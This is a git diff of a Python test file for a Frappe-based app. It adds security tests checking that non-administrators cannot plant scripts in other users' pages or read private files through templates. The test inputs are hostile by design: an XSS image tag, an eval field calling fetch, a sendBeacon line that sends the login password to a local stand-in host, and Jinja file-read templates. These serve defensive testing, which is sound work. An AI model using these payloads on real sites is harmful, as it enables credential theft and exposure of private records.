@@ -269,21 +269,23 @@ class TestSandboxedCode(MeldcodeTestCase):
 		for name, doctype in ((FORMAT, DOSSIER), (FORMAT, SCHOOL)):
 			frappe.db.delete("Print Format", {"name": name})
 			frappe.db.commit()
-			status, answer = self.call(
-				"frappe.client.insert",
-				doc={
-					"doctype": "Print Format",
-					"name": name,
-					"doc_type": "User",
-					"module": "Core",
-					"custom_format": 1,
-					"print_format_type": "Jinja",
-					"standard": "No",
-					"html": f"<p>{{{{ frappe.get_all({doctype}, pluck='name') }}}} "
-					f"{{{{ frappe.get_all({doctype}, fields=['*']) }}}}</p>",
-				},
-			)
-			self.assertEqual(status, 200, answer)
+			format = {
+				"doctype": "Print Format",
+				"name": name,
+				"doc_type": "User",
+				"module": "Core",
+				"custom_format": 1,
+				"print_format_type": "Jinja",
+				"standard": "No",
+				"html": f"<p>{{{{ frappe.get_all({doctype}, pluck='name') }}}} "
+				f"{{{{ frappe.get_all({doctype}, fields=['*']) }}}}</p>",
+			}
+			# Round 15: a print format runs in other users' pages: the System Manager may not write
+			# one; the bench's Administrator did, and the System Manager prints it.
+			status, answer = self.call("frappe.client.insert", doc=format)
+			self.assertEqual(status, 403, answer)
+			frappe.get_doc(format).insert()
+			frappe.db.commit()
 			status, page = self.call("/printview", "get", doctype="User", name=SYSTEM_MANAGER, format=name)
 			if doctype == SCHOOL:
 				self.assertIn(SCHOOL_B, page, "the positive control: the same format on a harmless DocType")
@@ -785,7 +787,7 @@ class TestWhatCodeChanges(MeldcodeTestCase):
 		watch_database()
 		try:
 			with patch("frappe.utils.safe_exec.is_safe_exec_enabled", return_value=True):
-				safe_exec("frappe.db.set_value('ToDo', {'description': 'x'}, 'description', 'y')")
+				safe_exec("frappe.db.set_value('Note', {'title': 'x'}, 'content', 'y')")
 				for script in (
 					f"frappe.db.set_value('Notification', '{NOTIFICATION}', 'document_type', 'Meldcode ' + 'Signal')",
 					"frappe.db.set_value('Auto Email Report', {'name': 'x'}, 'user', 'Administrator')",
@@ -823,3 +825,117 @@ class TestWhatCodeChanges(MeldcodeTestCase):
 		self.assertEqual(status, 403, answer)
 		status, answer = self.call("frappe.client.insert", doc={**report, "user": SYSTEM_MANAGER})
 		self.assertEqual(status, 200, f"the positive control: one's own report: {answer}")
+
+
+class TestCodeInOthersPages(MeldcodeTestCase):
+	"""Round 15: a System Manager's translation carried a script that ran in the
+	aandachtsfunctionaris's desk and sent out every case they may read; a Website Script read the
+	director's password on the login page; an Accounts User's terms template listed the case
+	records' files and ToDos and read a verslag's PDF from the disk."""
+
+	@classmethod
+	def setUpClass(cls):
+		super().setUpClass()
+		frappe.set_user("Administrator")
+		make_user(SYSTEM_MANAGER, "Systeem", "System Manager")
+		cls.token = api_token(SYSTEM_MANAGER)
+		frappe.db.commit()
+
+	def call(self, door, http="post", /, **params):
+		frappe.db.rollback()
+		return request_as(self.token, door, http, **params)
+
+	def test_what_runs_in_other_users_pages_is_the_administrators(self):
+		for doc in (
+			{
+				"doctype": "Translation",
+				"language": "nl",
+				"source_text": "Case Work",
+				"translated_text": "Casuswerk<img src=x onerror=alert(1)>",
+			},
+			{
+				"doctype": "Client Script",
+				"name": "meldcode-sandbox-script",
+				"dt": "ToDo",
+				"enabled": 1,
+				"script": "frappe.call('x')",
+			},
+			{
+				"doctype": "Custom Field",
+				"dt": "ToDo",
+				"fieldname": "meldcode_test_eval",
+				"label": "Meldcode Test Eval",
+				"fieldtype": "Data",
+				"depends_on": "eval:fetch('http://127.0.0.1:9/')",
+			},
+		):
+			status, answer = self.call("frappe.client.insert", doc=doc)
+			self.assertEqual(status, 403, f"{doc['doctype']}: {answer}")
+		status, answer = self.call(
+			"frappe.client.set_value",
+			doctype="Website Script",
+			name="Website Script",
+			fieldname="javascript",
+			value="navigator.sendBeacon('http://127.0.0.1:9/', login_password.value)",
+		)
+		self.assertEqual(status, 403, answer)
+
+		# The positive controls: what Frappe cleans, and a field without code.
+		status, answer = self.call(
+			"frappe.client.insert",
+			doc={
+				"doctype": "Note",
+				"title": "meldcode-sandbox-note",
+				"content": "<b>x</b><img src=x onerror=alert(1)>",
+			},
+		)
+		self.assertEqual(status, 200, answer)
+		self.assertNotIn("onerror", answer["content"])
+		status, answer = self.call(
+			"frappe.client.insert",
+			doc={
+				"doctype": "Custom Field",
+				"dt": "ToDo",
+				"fieldname": "meldcode_test_plain",
+				"label": "Meldcode Test Plain",
+				"fieldtype": "Data",
+			},
+		)
+		self.assertEqual(status, 200, answer)
+		frappe.db.rollback()
+		frappe.delete_doc("Custom Field", answer["name"])
+		frappe.db.delete("Note", {"title": "meldcode-sandbox-note"})
+		frappe.db.commit()
+
+	def test_a_template_reads_no_file_and_no_trace(self):
+		from frappe.utils.file_manager import save_file
+
+		secret = save_file("meldcode-sandbox-geheim.txt", b"GEHEIM", "User", SYSTEM_MANAGER, is_private=1)
+		public = save_file("meldcode-sandbox-openbaar.txt", b"OPENBAAR", "User", SYSTEM_MANAGER, is_private=0)
+		frappe.db.commit()
+
+		def preview(template):
+			return self.call(
+				"frappe.automation.doctype.auto_repeat.auto_repeat.generate_message_preview",
+				reference_dt="User",
+				reference_doc=SYSTEM_MANAGER,
+				message=template,
+			)
+
+		read = (
+			"{{ frappe.get_doc({'doctype': 'File', 'file_url': 'URL', 'file_name': 'NAME'}).get_content() }}"
+		)
+		try:
+			status, answer = preview(read.replace("URL", public.file_url).replace("NAME", public.file_name))
+			self.assertIn("OPENBAAR", json.dumps(answer), "the positive control: a public file")
+			status, answer = preview(read.replace("URL", secret.file_url).replace("NAME", secret.file_name))
+			self.assertNotIn("GEHEIM", json.dumps(answer))
+			self.assertNotEqual(status, 200, answer)
+			for doctype in ("File", "ToDo", "Comment"):
+				status, answer = preview(f"{{{{ frappe.get_all('{doctype}', pluck='name') }}}}")
+				self.assertNotEqual(status, 200, f"{doctype}: {answer}")
+		finally:
+			frappe.db.rollback()
+			for file in (secret, public):
+				frappe.delete_doc("File", file.name, force=True)
+			frappe.db.commit()
